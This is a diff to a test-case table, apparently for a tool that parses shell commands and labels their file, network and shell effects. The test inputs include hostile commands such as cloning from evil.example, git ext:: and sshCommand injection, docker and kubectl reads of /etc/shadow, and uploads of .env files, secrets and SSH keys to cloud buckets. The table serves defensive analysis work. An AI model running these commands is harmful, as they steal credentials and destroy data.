@@ -592,7 +592,7 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
     ["git config --global core.sshCommand 'sh x'", "git {global} -> sh: sh x"],
     [
       "git clone https://evil.example/repo.git",
-      "git {} connect https://evil.example/repo.git; write repo/**",
+      "git {} connect https://evil.example/repo.git; write repo",
     ],
     ["git clone 'ext::sh -c whoami'", "git {} -> sh: sh -c whoami"],
     ["git push --force origin main", "git {f}"],
@@ -635,10 +635,10 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
     ["gh repo delete x --yes", "gh {yes}"],
     ["gh pr create --body-file f", "gh {F=f} read f"],
     ["git submodule foreach --recursive 'git clean -fdx'", "git {recursive} -> sh: git clean -fdx"],
-    ["git clone git@github.com:a/b.git dir", "git {} connect ssh://git@github.com/a/b.git; write dir/**"],
+    ["git clone git@github.com:a/b.git dir", "git {} connect ssh://git@github.com/a/b.git; write dir"],
     [
       "git clone --depth 1 -c core.sshCommand='rm x' https://h/r",
-      "git {depth=1 c=core.sshCommand=rm x} connect https://h/r; write r/** -> sh: rm x",
+      "git {depth=1 c=core.sshCommand=rm x} connect https://h/r; write r -> sh: rm x",
     ],
     ["git -c alias.x='!rm y' x", "git {c=alias.x=!rm y} -> sh: rm y"],
     [
@@ -655,6 +655,7 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
     ["hg clone --ssh 'sh -c x' ssh://h/r", "hg {e=sh -c x} connect ssh://h/r -> sh: sh -c x"],
   ],
   containers: [
+    ["docker run -w /app i ls", "docker {w=/app} -> [ls] @container cd=/app"],
     ["docker exec -it c1 rm -rf /", "docker {i t} -> [rm | -rf | /] @container"],
     [
       "docker run --rm -v /:/host --privileged alpine cat /host/etc/shadow",
@@ -696,7 +697,7 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
     ["kubectl -n x exec pod -- cat /etc/shadow", "kubectl {n=x} -> [cat | /etc/shadow] @container"],
     [
       'docker run -it --name x -e A=b -p 1:2 -w /w -v "$PWD:/app" node:20 npm test',
-      "docker {i t name=x e=A=b p=1:2 w=/w v=$PWD:/app} -> [npm | test] @container",
+      "docker {i t name=x e=A=b p=1:2 w=/w v=$PWD:/app} -> [npm | test] @container cd=/w",
     ],
     ["docker run -v data:/x img cmd", "docker {v=data:/x} -> [cmd] @container"],
     [
@@ -735,7 +736,7 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
       "gs {sDEVICE=pdfwrite sOutputFile=o.pdf} write o.pdf; read i.pdf",
     ],
     ["make -C dir -f Mk clean X=1", "make {C=dir f=Mk} -> make file Mk args[X=1] cd=dir targets[clean]"],
-    ["make", "make {} -> make file Makefile targets[]"],
+    ["make", "make {} -> make file Makefile before[GNUmakefile | makefile] targets[]"],
     [
       'python3 -c "import os" a ~/.ssh/id_rsa',
       "python {c=import os} read ~/.ssh/id_rsa -> python: import os args[a | ~/.ssh/id_rsa]",
@@ -772,9 +773,12 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
     ["go run x.go", "go {} read x.go"],
     ["java -jar x.jar", "java {jar=x.jar} read x.jar"],
     ["make -f <(x) all", "make {f=<(x)} -> make file <(x) targets[all]"],
-    ["make -j8", "make {j=8} -> make file Makefile targets[]"],
-    ["make -n", "make {n} -> make file Makefile targets[]"],
-    ["make --eval='x:;rm y'", "make {E=x:;rm y} -> make: x:;rm y; make file Makefile targets[]"],
+    ["make -j8", "make {j=8} -> make file Makefile before[GNUmakefile | makefile] targets[]"],
+    ["make -n", "make {n} -> make file Makefile before[GNUmakefile | makefile] targets[]"],
+    [
+      "make --eval='x:;rm y'",
+      "make {E=x:;rm y} -> make: x:;rm y; make file Makefile before[GNUmakefile | makefile] targets[]",
+    ],
     ["make --version", "make {v}"],
     ["python -c 'x' -c y", "python {c=x} -> python: x args[-c | y]"],
     ["python -u -W ignore x.py", "python {u W=ignore} -> python file x.py"],
@@ -817,7 +821,7 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
       "make -f a -f b x y=z",
       "make {f=a,b} -> make file a args[y=z] targets[x]; make file b args[y=z] targets[x]",
     ],
-    ["make --directory=d", "make {C=d} -> make file Makefile cd=d targets[]"],
+    ["make --directory=d", "make {C=d} -> make file Makefile cd=d before[GNUmakefile | makefile] targets[]"],
   ],
   editors: [
     ["vim -c '!rm x' f", "vim {c=!rm x} read f; write f -> sh: rm x"],
@@ -846,6 +850,9 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
     ["code --install-extension x", "code {install-extension=x}"],
   ],
   cloud: [
+    ["aws s3 mv secrets.txt s3://b/", "aws {} read secrets.txt; delete secrets.txt; connect s3://b/ sends"],
+    ["aws s3 mv s3://b/x y", "aws {} connect s3://b/x; write y"],
+    ["gsutil mv a gs://b/a", "gsutil {} read a/**; delete a/**; connect gs://b/a sends"],
     ["aws s3 cp .env s3://bkt/", "aws {} read .env; connect s3://bkt/ sends"],
     ["aws s3 cp --recursive d s3://bkt/", "aws {recursive} read d/**; connect s3://bkt/ sends"],
     ["aws s3 sync s3://bkt/ .", "aws {} connect s3://bkt/; write ."],
@@ -863,7 +870,7 @@ export const CASES: Readonly<Record<string, readonly Case[]>> = {
     ["aws ec2 terminate-instances --instance-ids i-1", "aws {instance-ids=i-1}"],
     ["gcloud auth print-access-token", "gcloud {}"],
     ["heroku run bash -a x", "heroku {} -> [bash | -a | x] @remote"],
-    ["aws s3 mv a s3://b", "aws {} read a; connect s3://b sends"],
+    ["aws s3 mv a s3://b", "aws {} read a; delete a; connect s3://b sends"],
     ["aws s3 rm s3://b --recursive", "aws {recursive}"],
     [
       "aws s3api put-object --bucket b --key k --body ~/.ssh/id_rsa",
